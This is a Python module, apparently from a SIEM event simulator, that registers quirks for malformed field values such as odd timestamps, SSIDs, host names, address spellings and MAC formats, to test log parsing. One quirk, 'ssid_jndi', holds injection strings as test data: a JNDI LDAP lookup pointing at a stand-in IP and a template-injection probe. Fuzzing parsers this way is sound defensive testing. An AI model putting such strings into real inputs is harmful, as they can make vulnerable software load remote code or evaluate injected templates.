"""Quirks of single values: times, addresses, codes, names, spellings."""

from __future__ import annotations

from datetime import datetime, timezone
from typing import TYPE_CHECKING

from datto_siem.plugins.simulator import values
from datto_siem.plugins.simulator.draft import Draft, Pair
from datto_siem.plugins.simulator.quirks import quirk

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

MAC_KEYS = ("smac", "dmac", "dattoDevicePreviousAP", "external_id")


def put(draft: Draft, key: str, text: str, sep: str | None = None) -> bool:
    """Replace a value; False when the event has no such key."""
    pair = draft.pair(key)
    if pair is None:
        return False
    pair.text, pair.sep = text, sep or pair.sep
    return True


def fixed(group: str, name: str, key: str, *texts: str, sep: str | None = None) -> None:
    """Register a quirk that gives one key one of some texts."""

    def change(draft: Draft, rng: Random) -> bool:
        return put(draft, key, rng.choice(texts), sep)

    quirk(group, name)(change)


def _rfc3339(milliseconds: int) -> str:
    seconds, rest = divmod(milliseconds, 1000)
    moment = datetime.fromtimestamp(seconds, timezone.utc)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{rest:03d}Z"


def _time(name: str, form: Callable[[int], str]) -> None:
    def change(draft: Draft, _rng: Random) -> bool:
        for key in draft.times:
            if (pair := draft.pair(key)) and pair.text.isdigit():
                pair.text = form(int(pair.text))
        return bool(draft.times)

    quirk("time", name)(change)


_time("time_seconds", lambda ms: str(ms // 1000))
_time("time_fraction", lambda ms: f"{ms // 1000}.{ms % 1000:03d}")
_time("time_microseconds", lambda ms: f"{ms}417")
_time("time_nanoseconds", lambda ms: f"{ms}417003")
_time("time_rfc3339", _rfc3339)
_time("time_rfc3339_offset", lambda ms: _rfc3339(ms + 7_200_000).replace("Z", "+02:00"))
_time("time_1970", lambda ms: str(ms % 100_000))


@quirk("time")
def time_text(draft: Draft, _rng: Random) -> bool:
    """Words where a time should be."""
    for key in draft.times:
        if pair := draft.pair(key):
            pair.text, pair.misfit = "yesterday", True
    return bool(draft.times)


@quirk("time")
def time_missing(draft: Draft, _rng: Random) -> bool:
    """No time at all."""
    for key in draft.times:
        draft.drop(key)
    return bool(draft.times) and bool(draft.pairs)


# SSIDs. A text with ` word=` in it is among the forgeries of quirk_keys, not here.
fixed("ssid", "ssid_blanks", "cs2", "Starbucks WiFi", "two  blanks", "a b c d")
fixed("ssid", "ssid_equals", "cs2", "A=B", "=start", "base64==")
fixed("ssid", "ssid_colon", "cs2", "Room:12", "note: guests", "::")
fixed("ssid", "ssid_pipe", "cs2", "left|right", "|", "a | b")
fixed("ssid", "ssid_unicode", "cs2", "Кафе Север", "☕ bar", "e\u0301te\u0301", "日本")
fixed("ssid", "ssid_jndi", "cs2", "${jndi:ldap://198.51.100.7/a}", "{{7*7}}", "<b>x</b>")
fixed("ssid", "ssid_quotes", "cs2", '"Guest"', "Jo's net", "'a' \"b\"")
fixed("ssid", "ssid_backslash", "cs2", "C:\\temp\\guest", "tail\\", "\\x41\\e[0m")
fixed("ssid", "ssid_escape_code", "cs2", "\x1b[31mred\x1b[0m", "bell\x07")
fixed("ssid", "ssid_empty", "cs2", "", sep="=")
fixed("host", "host_odd", "dvchost", "Jo's iPhone", "tablet (2)", "*", "-", "x" * 63, "名前")
fixed("host", "host_empty", "dvchost", "", sep="=")

for _code in (0, 4, 8, 15, 17, 23, 200, 999):

    @quirk("reason", f"reason_{_code}")
    def _reason(draft: Draft, _rng: Random, code: int = _code) -> bool:
        return draft.event != "system/reboot" and put(draft, "reason", str(code))


@quirk("reason")
def reason_text(draft: Draft, _rng: Random) -> bool:
    """The code in words."""
    pair = draft.pair("reason")
    if pair is None:
        return False
    pair.text, pair.sep = "class 3 frame received", "="
    pair.misfit = draft.event != "system/reboot"
    return True


@quirk("reason")
def reason_absent(draft: Draft, _rng: Random) -> bool:
    """No code."""
    had = draft.pair("reason") is not None
    draft.drop("reason")
    return had


@quirk("address")
def ipv6(draft: Draft, rng: Random) -> bool:
    """Every address of IP version 6."""
    found = False
    for key in ("dvc", "client_ip", "cloud_ip", "wan_ip", "resource_ip"):
        found |= put(draft, key, values.ipv6(rng))
    if (client := draft.pair("client_ip")) and draft.pair("src_addr"):
        put(draft, "src_addr", f"[{client.text}]:{rng.randrange(1024, 65536)}")
        put(draft, "socket_family", "INET6")
    return found


for _name, _form in {
    "bare": "{ip}",
    "ampersand": "{ip} & {port}",
    "comma": "{ip},{port}",
    "blank": "{ip} {port}",
    "hash": "{ip}#{port}",
    "brackets": "[{v6}]:{port}",
    "bare_v6": "{v6}",
}.items():

    @quirk("address", f"src_addr_{_name}")
    def _src_addr(draft: Draft, rng: Random, form: str = _form) -> bool:
        client = draft.pair("client_ip")
        if client is None or draft.pair("src_addr") is None:
            return False
        if "{v6}" in form:
            client.text = values.ipv6(rng)
        port = rng.randrange(1024, 65536)
        return put(draft, "src_addr", form.format(ip=client.text, v6=client.text, port=port))


for _name in ("DOH", "DOT", "DOQ"):
    fixed("socket", f"socket_{_name.lower()}", "socket_protocol", _name)


@quirk("socket")
def socket_swapped(draft: Draft, rng: Random) -> bool:
    """Family and protocol the wrong way round, as one of the vendor's examples has it."""
    return put(draft, "socket_family", rng.choice(("UDP", "DOH", "TCP"))) and put(
        draft, "socket_protocol", rng.choice(("INET", "INET6"))
    )


@quirk("domain")
def domain_missing(draft: Draft, _rng: Random) -> bool:
    """No name, as in the vendor's drop example."""
    had = draft.pair("domain") is not None
    draft.drop("domain")
    return had


fixed("domain", "domain_odd", "domain", "a\\ b.example.com", "_dmarc.example.com.", "${x}.test")

for _name, _numbers in {
    "groups_none": (),
    "groups_holes": (0, 3, 7),
    "groups_unordered": (2, 0, 1),
    "groups_many": tuple(range(70)),
}.items():

    @quirk("groups", _name)
    def _groups(draft: Draft, rng: Random, numbers: tuple[int, ...] = _numbers) -> bool:
        at = draft.index("groups.0")
        if at < 0:
            return False
        kept = [pair for pair in draft.pairs if not pair.key.startswith("groups.")]
        new = [Pair(f"groups.{n}", f"{rng.choice(values.GROUPS)}{n}") for n in numbers]
        draft.pairs = kept[:at] + new + kept[at:]
        return True


fixed("external_type", "external_type_typo", "external_type", "SOFTAWRE", "SOFTAWRE_DOMAIN")
fixed("external_type", "external_type_case", "external_type", "Software", "APPLIANCE")


@quirk("external_id")
def external_id_mac(draft: Draft, rng: Random) -> bool:
    """An appliance instead of a software client."""
    put(draft, "external_type", "appliance")
    return put(draft, "external_id", values.mac(rng))


fixed("duration", "duration_zero", "duration", "0")
fixed("duration", "duration_seconds", "duration", "5", "86400", "12.75")
fixed("duration", "duration_timestamp", "duration", "1795510800", "1795510800123")


@quirk("duration")
def duration_go(draft: Draft, rng: Random) -> bool:
    """A length the way Go prints one."""
    return put(draft, "duration", values.go_duration(rng))


def _spell(name: str, form: Callable[[str], str]) -> None:
    def change(draft: Draft, _rng: Random) -> bool:
        found = [p for p in draft.pairs if p.key in MAC_KEYS and p.text.count(":") == 5]
        for pair in found:
            pair.text = form(pair.text)
        return bool(found)

    quirk("mac", name)(change)


_spell("mac_lower", str.lower)
_spell("mac_hyphens", lambda mac: mac.replace(":", "-"))
_spell("mac_bare", lambda mac: mac.replace(":", "").lower())
_spell("mac_dots", lambda mac: ".".join(mac.replace(":", "").lower()[i : i + 4] for i in (0, 4, 8)))

fixed("ip_proto", "ip_proto_number", "ip_proto", "6", "17", "1")
fixed("ip_proto", "ip_proto_case", "ip_proto", "TCP", "Udp", "ICMP")
